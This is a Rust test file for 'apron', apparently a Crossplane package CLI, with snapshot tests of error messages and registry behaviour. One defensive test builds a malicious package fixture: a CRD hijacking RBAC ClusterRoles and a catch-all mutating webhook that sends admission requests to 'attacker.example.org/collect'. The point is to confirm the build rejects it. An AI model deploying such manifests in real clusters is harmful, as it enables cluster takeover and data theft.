//! What apron says: the newcomer's minute, and the mistakes people make. Each snapshot is to be
//! read aloud before it is accepted.

use crate::support::{Ran, Registry, Scratch, apron, apron_as, free_port};
use std::path::Path;

/// What differs between runs is replaced: scratch paths, ports, digests.
fn steady(scratch: &Scratch, ran: &Ran) -> String {
    let place = scratch.path().display().to_string();
    let mut text = ran.all().replace(&place, "SCRATCH");
    text = replace_runs(&text, "127.0.0.1:", |c| c.is_ascii_digit(), "127.0.0.1:PORT");
    text = replace_runs(&text, "sha256:", |c| c.is_ascii_hexdigit(), "sha256:DIGEST");
    format!("{text}exit code {}\n", ran.code.unwrap())
}

fn replace_runs(text: &str, before: &str, is: impl Fn(char) -> bool, by: &str) -> String {
    let mut parts = text.split(before);
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let rest = part.trim_start_matches(&is);
        out.push_str(if rest.len() < part.len() { by } else { before });
        out.push_str(rest);
    }
    out
}

macro_rules! says {
    ($scratch:expr, $ran:expr) => {
        insta::assert_snapshot!(steady(&$scratch, &$ran))
    };
}

const META: &str =
    "apiVersion: meta.pkg.crossplane.io/v1\nkind: Configuration\nmetadata:\n  name: mine\n";

#[test]
fn a_newcomers_minute() {
    let scratch = Scratch::new();
    let mut story = String::new();
    let mut step = |directory: &str, words: &[&str]| {
        let ran = crate::support::command(&scratch)
            .current_dir(scratch.join(directory))
            .args(words)
            .output()
            .unwrap();
        story.push_str(&format!("$ apron {}\n", words.join(" ")));
        story.push_str(&steady(&scratch, &ran.into()));
    };
    step("", &["init", "configuration", "my-platform"]);
    step("my-platform", &["lint"]);
    step("my-platform", &["build"]);
    let file = the_package(&scratch.join("my-platform"));
    step("my-platform", &["inspect", &file]);
    step("my-platform", &["inspect", &file, "-o", "tree"]);
    insta::assert_snapshot!(story);
}

fn the_package(directory: &Path) -> String {
    let entries = fs_err::read_dir(directory).unwrap();
    let names = entries.map(|entry| entry.unwrap().file_name().into_string().unwrap());
    let mut packages: Vec<String> = names.filter(|name| name.ends_with(".xpkg")).collect();
    assert_eq!(packages.len(), 1, "{packages:?}");
    packages.remove(0)
}

#[test]
fn all_templates_build_without_a_finding() {
    for kind in ["configuration", "provider", "function"] {
        let scratch = Scratch::new();
        apron(&scratch, ["init", kind, "thing"]).ok();
        let checked = apron(&scratch, ["lint", "--strict", "thing"]).ok();
        assert_eq!(checked.stdout, "1 package checked: 0 errors, 0 warnings\n", "{kind}");
        apron(&scratch, ["build", "thing"]).ok();
    }
}

#[test]
fn mistake_no_crossplane_yaml() {
    let scratch = Scratch::new();
    scratch.write("apis/x.yaml", "apiVersion: apiextensions.crossplane.io/v1\nkind: Composition\nmetadata:\n  name: x\nspec:\n  compositeTypeRef:\n    apiVersion: example.org/v1\n    kind: X\n");
    says!(scratch, apron(&scratch, ["build"]));
}

#[test]
fn mistake_an_empty_directory() {
    let scratch = Scratch::new();
    says!(scratch, apron(&scratch, ["build"]));
}

#[test]
fn mistake_two_crossplane_yamls() {
    let scratch = Scratch::new();
    scratch.write("crossplane.yaml", META);
    scratch.write("old/crossplane.yaml", META.replace("mine", "old"));
    says!(scratch, apron(&scratch, ["build"]));
}

#[test]
fn mistake_a_tab_in_yaml() {
    let scratch = Scratch::new();
    scratch.write("crossplane.yaml", META.replace("  name", "\tname"));
    says!(scratch, apron(&scratch, ["build"]));
}

#[test]
fn mistake_a_kind_that_does_not_belong() {
    let scratch = Scratch::new();
    scratch.write("crossplane.yaml", META);
    scratch.write(
        "crd.yaml",
        "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: xs.example.org\nspec:\n  group: example.org\n  scope: Cluster\n  names:\n    kind: X\n    plural: xs\n  versions:\n  - name: v1\n    served: true\n    storage: true\n    schema:\n      openAPIV3Schema:\n        type: object\n",
    );
    scratch.write(".github/workflows/ci.yaml", "name: ci\non: push\n");
    scratch.write("config.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n");
    says!(scratch, apron(&scratch, ["build"]));
}

#[test]
fn mistake_a_bad_constraint() {
    let scratch = Scratch::new();
    let spec = "spec:\n  crossplane:\n    version: \">=one\"\n  dependsOn:\n  - provider: example.org/p:v1.0.0\n    version: v1\n  - provider: example.org/q\n    version: \"^^2\"\n  - version: v1.0.0\n  dependson: []\n";
    scratch.write("crossplane.yaml", format!("{META}{spec}"));
    says!(scratch, apron(&scratch, ["lint"]));
}

/// A directory with one built package, `mine.xpkg`.
fn built() -> Scratch {
    let scratch = Scratch::new();
    scratch.write("src/crossplane.yaml", META);
    apron(&scratch, ["build", "src", "-o", "mine.xpkg"]).ok();
    scratch
}

#[test]
fn mistake_an_unreachable_registry() {
    let scratch = built();
    let reference = format!("127.0.0.1:{}/team/mine:v1", free_port());
    says!(scratch, apron(&scratch, ["push", &reference]));
}

#[test]
fn mistake_a_registry_that_does_not_exist() {
    let scratch = built();
    says!(scratch, apron(&scratch, ["push", "registry.invalid/team/mine:v1"]));
}

#[test]
fn mistake_no_password_and_a_wrong_one() {
    let scratch = built();
    let registry = Registry::with_password();
    let reference = registry.reference("team/mine:v1");
    let mut story = steady(&scratch, &apron(&scratch, ["push", &reference]));
    let wrong = ["login", &registry.address, "-u", "ada", "-p", "wrong"];
    story.push_str(&steady(&scratch, &apron(&scratch, wrong)));
    let right = ["login", &registry.address, "-u", "ada", "-p", "secret"];
    story.push_str(&steady(&scratch, &apron(&scratch, right)));
    story.push_str(&steady(&scratch, &apron(&scratch, ["push", &reference])));
    story.push_str(&steady(&scratch, &apron(&scratch, ["logout", &registry.address])));
    story.push_str(&steady(&scratch, &apron(&scratch, ["pull", &reference])));
    insta::assert_snapshot!(story);
}

#[test]
fn mistake_a_tag_that_is_not_there() {
    let scratch = built();
    let registry = Registry::start();
    apron(&scratch, ["push", &registry.reference("team/mine:v1.0.0")]).ok();
    let mut story =
        steady(&scratch, &apron(&scratch, ["pull", &registry.reference("team/mine:v2.0.0")]));
    story.push_str(&steady(
        &scratch,
        &apron(&scratch, ["inspect", &registry.reference("team/yours:v1")]),
    ));
    insta::assert_snapshot!(story);
}

#[test]
fn mistake_something_that_is_not_a_package() {
    let scratch = Scratch::new();
    scratch.write("notes.xpkg", "these are my notes");
    scratch.write("root/bin/x", "x");
    crate::support::program(&scratch, "tar", ["-C", "root", "-cf", "root.tar", "."]).ok();
    let append = ["append", "-f", "root.tar", "-t", "example.org/team/image:v1", "-o", "image.tar"];
    crate::support::peer(&scratch, "crane", append).ok();
    let mut story = String::new();
    for file in ["notes.xpkg", "image.tar", "missing.xpkg", "root"] {
        story.push_str(&steady(&scratch, &apron(&scratch, ["inspect", file])));
    }
    insta::assert_snapshot!(story);
}

#[test]
fn mistake_no_permission() {
    let scratch = built();
    // Even root may not write there.
    says!(scratch, apron(&scratch, ["build", "src", "-o", "/sys/mine.xpkg"]));
}

#[test]
fn mistake_several_packages_to_push() {
    let scratch = built();
    fs_err::copy(scratch.join("mine.xpkg"), scratch.join("other.xpkg")).unwrap();
    says!(scratch, apron(&scratch, ["push", "example.org/team/mine:v1"]));
}

#[test]
fn mistake_a_reference_that_is_none() {
    let scratch = built();
    let mut story = String::new();
    for reference in ["Example.org/Mine:v1", "example.org/mine:", "example.org/mine@sha256:12"] {
        story.push_str(&steady(&scratch, &apron(&scratch, ["push", reference])));
    }
    insta::assert_snapshot!(story);
}

#[test]
fn mistake_a_name_that_is_too_long() {
    let scratch = Scratch::new();
    let (reference, name) = ("xpkg.example.org/team/nop:v1.0.0", "n".repeat(64));
    // Before anybody is asked: there is neither a cluster nor a registry.
    for words in [&["install", reference, &name][..], &["plan", reference, &name]] {
        let said = apron(&scratch, words).failed();
        let why =
            format!("the name of a package may have at most 63 characters, and {name} has 64");
        let hint = format!("give it another name: apron {} {reference} NAME", words[0]);
        assert!(said.contains(&why) && said.contains(&hint), "{said}");
    }
}

#[test]
fn mistake_initialising_where_something_is() {
    let scratch = built();
    let mut story =
        steady(&scratch, &apron(&scratch, ["init", "configuration", "mine", "-d", "src"]));
    story.push_str(&steady(&scratch, &apron(&scratch, ["init", "configuration", "My Platform"])));
    insta::assert_snapshot!(story);
}

#[test]
fn the_guides_words_work_through_kubectl() {
    let scratch = Scratch::new();
    let registry = Registry::start();
    scratch.copy_package("provider-nop");
    let mut story = String::new();
    let mut step = |words: &[&str]| {
        let ran = apron_as(&scratch, "kubectl-crossplane", words);
        story.push_str(&format!(
            "$ kubectl crossplane {}\n",
            words.join(" ").replace(&registry.address, "REGISTRY")
        ));
        story.push_str(&steady(&scratch, &ran).replace(&registry.address, "REGISTRY"));
    };
    step(&["build", "configuration", "-f", "provider-nop"]);
    step(&["build", "provider", "-f", "provider-nop", "--name", "nop"]);
    fs_err::rename(scratch.join("provider-nop/nop.xpkg"), scratch.join("nop.xpkg")).unwrap();
    step(&["push", "provider", &registry.reference("crossplane/provider-nop:v0.1.0")]);
    fs_err::copy(scratch.join("nop.xpkg"), scratch.join("two.xpkg")).unwrap();
    step(&["push", "provider", &registry.reference("crossplane/provider-nop:v0.1.0")]);
    let chosen = registry.reference("crossplane/provider-nop:v0.2.0");
    step(&["push", "provider", &chosen, "-f", "two.xpkg"]);
    step(&["push", "configuration", &chosen, "-f", "two.xpkg"]);
    insta::assert_snapshot!(story);
}

#[test]
fn upstreams_words_work_and_say_as_little() {
    let scratch = Scratch::new();
    let registry = Registry::start();
    scratch.copy_package("provider-nop");
    let there = registry.reference("crossplane/provider-nop:v0.1.0");
    let quiet = |words: &[&str]| {
        let ran = apron_as(&scratch, "crossplane", words).ok();
        assert_eq!(ran.all(), "", "{words:?}");
    };
    quiet(&["xpkg", "build", "-f", "provider-nop", "-o", "nop.xpkg"]);
    quiet(&["xpkg", "push", &there]);
    quiet(&["xpkg", "push", "-f", "nop.xpkg", "-a", "a=b", &there]);
    quiet(&["xpkg", "extract", "--from-xpkg", "nop.xpkg"]);
    assert!(scratch.join("out.gz").exists());
    quiet(&["xpkg", "extract", &there, "-o", "cache.xyz"]);
    assert!(scratch.join("cache.gz").exists());
    apron_as(
        &scratch,
        "crossplane",
        ["xpkg", "init", "mine", "configuration-template", "-d", "new"],
    )
    .ok();
    assert!(scratch.join("new/crossplane.yaml").exists());
    let strict = apron_as(&scratch, "crossplane", ["xpkg", "push", "team/mine:v1"]).failed();
    assert!(strict.contains("does not name its registry"), "{strict}");
}

#[test]
fn upstreams_words_end_as_upstreams_cli_ends() {
    let scratch = Scratch::new();
    scratch.copy_package("provider-nop");
    let examples = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: e\n";
    scratch.write("provider-nop/examples/e.yaml", examples);
    scratch.write("provider-nop/e.yaml", "kind: Nonsense\n");
    for words in [
        &["nonsense"][..],
        &["xpkg", "build", "--nonsense"],
        &["xpkg", "push"],
        &["xpkg"],
        &["xpkg", "build", "-f", "missing.txt", "--nonsense"],
        &["xpkg", "extract", "--from-xpkg", "missing.xpkg"],
        &["version", "--client"],
        &["xpkg", "build", "--help"],
    ] {
        let theirs = crate::support::peer(&scratch, "crossplane", words);
        let ours = apron_as(&scratch, "crossplane", words);
        assert_eq!(ours.code, theirs.code, "{words:?}: {}", ours.all());
    }
    let version = apron_as(&scratch, "crossplane", ["version", "--client"]).ok().stdout;
    assert_eq!(version, format!("Client Version: v{}\n", env!("CARGO_PKG_VERSION")));
    for name in ["get-crds", "batch"] {
        let ran = apron_as(&scratch, "crossplane", ["xpkg", name, "--flat", "x"]);
        assert_eq!(ran.code, Some(80));
        assert!(ran.stderr.contains(&format!("apron has no `crossplane xpkg {name}`\nhint: ")));
    }
    // Patterns leave out files of the package, and no examples.
    let flags =
        ["-f", "provider-nop", "-e", "provider-nop/examples", "--ignore", "e.yaml,examples/e.yaml"];
    let build = ["xpkg", "build"].iter().chain(&flags);
    crate::support::peer(&scratch, "crossplane", build.clone().chain(&["-o", "up.xpkg"])).ok();
    apron_as(&scratch, "crossplane", build.chain(&["-o", "our.xpkg"])).ok();
    for file in ["up.xpkg", "our.xpkg"] {
        let shown = apron(&scratch, ["inspect", file]).ok().stdout;
        assert!(shown.contains("\n  examples  "), "{file}: {shown}");
    }
}

#[test]
fn upstreams_words_act_on_behalf_of_others() {
    use std::io::{BufRead, BufReader, Write};
    let scratch = Scratch::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let server = format!("http://{}", listener.local_addr().unwrap());
    let kubeconfig = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: c\n  cluster: {{server: \"{server}\"}}\ncontexts:\n- name: c\n  context: {{cluster: c, user: u}}\nusers:\n- name: u\n  user: {{}}\n"
    );
    scratch.write(".kube/config", kubeconfig);
    let asked = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let lines = BufReader::new(stream.try_clone().unwrap()).lines().map(Result::unwrap);
        let head: Vec<String> = lines.take_while(|line| !line.is_empty()).collect();
        let answer = "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
        stream.write_all(answer.as_bytes()).unwrap();
        head
    });
    let update = ["xpkg", "update", "provider", "xpkg.example.org/team/nop:v1.0.0"];
    let flags = ["--as", "ada", "--as-group", "team", "--as-group", "ops", "--as-uid", "7"];
    apron_as(&scratch, "crossplane", update.iter().chain(&flags)).failed();
    let head = asked.join().unwrap();
    for line in [
        "impersonate-user: ada",
        "impersonate-group: team",
        "impersonate-group: ops",
        "impersonate-uid: 7",
    ] {
        assert!(head.iter().any(|one| one.eq_ignore_ascii_case(line)), "{line}: {head:?}");
    }
}

#[test]
fn colours_appear_only_where_they_are_wanted() {
    let scratch = Scratch::new();
    let colourful = |variables: &[(&str, &str)]| {
        let mut command = crate::support::command(&scratch);
        let ran = command.args(["build"]).envs(variables.iter().copied()).output().unwrap();
        String::from_utf8(ran.stderr).unwrap().contains('\u{1b}')
    };
    assert!(!colourful(&[]));
    assert!(colourful(&[("CLICOLOR_FORCE", "1")]));
    assert!(!colourful(&[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")]));
    // On a terminal too, as `script` gives one.
    let binary = env!("CARGO_BIN_EXE_apron");
    let on_terminal = |variables: &str| {
        let line = format!("cd {} && {variables} {binary} build", scratch.path().display());
        let ran = crate::support::program(&scratch, "script", ["-qec", &line, "/dev/null"]);
        ran.all().contains('\u{1b}')
    };
    assert!(on_terminal("TERM=xterm-256color"));
    assert!(!on_terminal("TERM=xterm-256color NO_COLOR=1"));
    assert!(!on_terminal("TERM=dumb"));
}

#[test]
fn lint_speaks_json_and_sarif() {
    let scratch = Scratch::new();
    scratch
        .write("crossplane.yaml", format!("{META}spec:\n  crossplane:\n    version: nonsense\n"));
    let mut story = steady(&scratch, &apron(&scratch, ["lint", "-o", "json"]));
    let sarif = apron(&scratch, ["lint", "-o", "sarif"]);
    let log: serde_json::Value = serde_json::from_str(&sarif.stdout).unwrap();
    story.push_str(&serde_json::to_string_pretty(&log["runs"][0]["results"]).unwrap());
    assert_eq!(log["version"], "2.1.0");
    insta::assert_snapshot!(story);
}

#[test]
fn the_list_of_rules_in_the_documents_is_the_list_in_the_code() {
    let mut page = String::from(
        "# What `apron lint` checks\n\nErrors fail a build; warnings do not, unless `--strict` is given. This list is made from the\ncode: `APRON_UPDATE=1 cargo test -p apron --test it rules` writes it anew.\n\n| rule | severity | |\n|---|---|---|\n",
    );
    for rule in xpkg::lint::rules().iter().chain(stack::rules::stack_rules()) {
        let severity = format!("{:?}", rule.severity).to_lowercase();
        page.push_str(&format!("| `{}` | {severity} | {} |\n", rule.name, rule.description));
    }
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/lint.md");
    if std::env::var_os("APRON_UPDATE").is_some() {
        fs_err::write(&path, &page).unwrap();
    }
    assert_eq!(fs_err::read_to_string(&path).unwrap(), page);
}

#[test]
fn mistake_a_file_where_a_reference_belongs() {
    let scratch = built();
    let mut story = steady(&scratch, &apron(&scratch, ["push", "mine.xpkg"]));
    story.push_str(&steady(&scratch, &apron(&scratch, ["build", "src", "-o", "-"])));
    insta::assert_snapshot!(story);
}

#[test]
fn mistake_several_files_for_one_package_that_runs_nowhere() {
    let scratch = built();
    fs_err::copy(scratch.join("mine.xpkg"), scratch.join("other.xpkg")).unwrap();
    let words = ["push", "example.org/team/mine:v1", "-f", "mine.xpkg,other.xpkg"];
    let story = steady(&scratch, &apron(&scratch, words));
    insta::assert_snapshot!(story);
}

#[test]
fn logging_out_forgets_credentials_wherever_they_are() {
    let scratch = Scratch::new();
    let podman = r#"{"auths":{"registry.example.org":{"auth":"YWRhOnNlY3JldA=="}}}"#;
    let file = scratch.write(".config/containers/auth.json", podman);
    let ran = apron(&scratch, ["logout", "registry.example.org"]).ok();
    assert_eq!(ran.stdout, "logged out of registry.example.org\n");
    assert!(!fs_err::read_to_string(file).unwrap().contains("YWRhOnNlY3JldA"));
}

#[test]
fn mistake_places_that_are_not_there() {
    let scratch = built();
    let mut story = String::new();
    for words in [
        &["inspect", "oci:missing"][..],
        &["inspect", "oci:src"],
        &["copy", "mine.xpkg", "missing/mine.xpkg"],
        &["copy", "mine.xpkg", "oci-archive:missing/mine.tar"],
        &["extract", "mine.xpkg", "-o", "missing/mine.gz"],
        &["build", "src", "-o", "missing/mine.xpkg"],
    ] {
        story.push_str(&steady(&scratch, &apron(&scratch, words.iter().copied())));
    }
    insta::assert_snapshot!(story);
}

#[test]
fn a_build_that_fails_tells_programs_why() {
    let scratch = Scratch::new();
    let meta = "apiVersion: meta.pkg.crossplane.io/v1\nkind: Provider\nmetadata:\n  name: x\nspec:\n  crossplane: 3\n";
    scratch.write("src/crossplane.yaml", meta);
    let ran = apron(&scratch, ["build", "src", "--output", "json"]);
    assert_eq!(ran.code, Some(1));
    insta::assert_snapshot!(steady(&scratch, &ran));
}

#[test]
fn what_a_package_asks_for_is_shown() {
    let scratch = Scratch::new();
    let meta = "apiVersion: meta.pkg.crossplane.io/v1alpha1\nkind: Provider\nmetadata:\n  name: asks\nspec:\n  controller:\n    image: example.org/asks:v1\n    permissionRequests:\n    - apiGroups: [\"\", apps]\n      resources: [secrets, deployments]\n      resourceNames: [one]\n      verbs: [get, list]\n    - nonResourceURLs: [/healthz]\n      verbs: [get]\n";
    scratch.write("src/crossplane.yaml", meta);
    let mut story = steady(&scratch, &apron(&scratch, ["inspect", "src"]));
    story.push_str(&steady(&scratch, &apron(&scratch, ["inspect", "src", "-o", "json"])));
    insta::assert_snapshot!(story);
}

#[test]
fn permissions_explain_themselves() {
    let scratch = Scratch::new();
    let mut story = String::new();
    for words in [&["permissions", "--help"][..], &["permissions", "allow", "--help"]] {
        story.push_str(&steady(&scratch, &apron(&scratch, words)));
    }
    insta::assert_snapshot!(story);
}

/// C2, H1 and H7, at the moment when an author can still do something about it.
#[test]
fn c2_h1_h7_what_nobody_would_install_is_not_built() {
    let scratch = Scratch::new();
    let meta = "apiVersion: meta.pkg.crossplane.io/v1\nkind: Provider\nmetadata:\n  name: evil\n";
    scratch.write("src/crossplane.yaml", meta);
    let definition = "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: clusterroles.rbac.authorization.k8s.io\nspec:\n  group: rbac.authorization.k8s.io\n  scope: Cluster\n  names: {kind: ClusterRole, plural: clusterroles}\n  versions:\n  - {name: v99, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}\n";
    scratch.write("src/definition.yaml", definition);
    let webhook = "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata:\n  name: hook\nwebhooks:\n- name: hook.example.org\n  admissionReviewVersions: [v1]\n  sideEffects: None\n  clientConfig: {url: \"https://attacker.example.org/collect\"}\n  rules:\n  - {apiGroups: [\"*\"], apiVersions: [\"*\"], operations: [\"*\"], resources: [\"*/*\"]}\n";
    scratch.write("src/webhook.yaml", webhook);
    insta::assert_snapshot!(steady(&scratch, &apron(&scratch, ["build", "src"])));
}

#[test]
fn an_error_is_json_where_the_result_would_be() {
    let scratch = Scratch::new();
    let error = |words: &[&str], code: i32| {
        let ran = apron(&scratch, words);
        assert_eq!((ran.code, ran.stdout.as_str()), (Some(code), ""), "{words:?}");
        let last = ran.stderr.lines().last().unwrap_or_default().to_owned();
        let said: serde_json::Value = serde_json::from_str(&last).unwrap();
        said["error"].clone()
    };
    let missing = error(&["inspect", "nowhere.xpkg", "-o", "json"], 1);
    for field in ["message", "hint"] {
        assert!(missing[field].as_str().is_some_and(|text| !text.is_empty()), "{missing}");
    }
    assert!(missing["causes"].is_array(), "{missing}");
    // Words that cannot be understood are an error like any other.
    let unknown = error(&["inspect", "a.xpkg", "--output=json", "--nonsense"], 2);
    assert_eq!(unknown["message"], "unexpected argument '--nonsense' found");
    assert_eq!(unknown["hint"], "For more information, try '--help'.");
    // Without it, errors are for people.
    let words = apron(&scratch, ["inspect", "nowhere.xpkg"]).failed();
    assert!(words.starts_with("error: "), "{words}");
}

#[test]
fn quiet_commands_print_results_warnings_and_errors() {
    let scratch = Scratch::new();
    let user = |words: &[&str]| {
        let words = [&["registry", "user", "--data-dir", "data"], words].concat();
        apron(&scratch, words)
    };
    let told = user(&["key", "robot"]).ok();
    assert!(told.stderr.contains("told this once"), "{}", told.stderr);
    let quiet = user(&["key", "robot", "--label", "ci", "--quiet"]).ok();
    assert_eq!((quiet.stdout.lines().count(), quiet.stderr.as_str()), (1, ""));
    // A rule for a name that no user has is worth a warning, however quiet.
    let warned = user(&["allow", "ada", "team/**", "pull", "-q"]).ok();
    assert!(warned.stderr.starts_with("warning: no user here is called ada"), "{}", warned.stderr);
    assert_eq!(user(&["allow", "robot", "team/**", "pull"]).ok().stderr, "");
    let failed = apron(&scratch, ["-q", "inspect", "nowhere.xpkg"]).failed();
    assert!(failed.contains("error: ") && failed.contains("hint: "), "{failed}");
}
